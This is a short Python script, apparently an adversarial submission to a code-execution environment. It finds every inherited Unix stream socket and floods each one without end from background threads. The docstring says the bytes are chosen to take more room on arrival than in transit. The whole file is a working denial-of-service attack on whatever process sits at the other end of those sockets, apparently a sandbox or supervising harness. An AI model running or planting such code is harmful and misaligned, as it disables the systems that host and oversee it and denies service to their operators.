"""The same with parts of nothing, each of which takes more room where it arrives than on its way."""

import os
import socket
import threading


def send(connection):
    try:
        while True:
            connection.sendall(b"\x01\x00" * 500_000)
    except OSError:
        pass


for number in map(int, os.listdir("/proc/self/fd")):
    try:
        connection = socket.socket(fileno=os.dup(number))
        if connection.family == socket.AF_UNIX and connection.type == socket.SOCK_STREAM:
            connection.setblocking(True)
            threading.Thread(target=send, args=(connection,), daemon=True).start()
    except OSError:
        pass
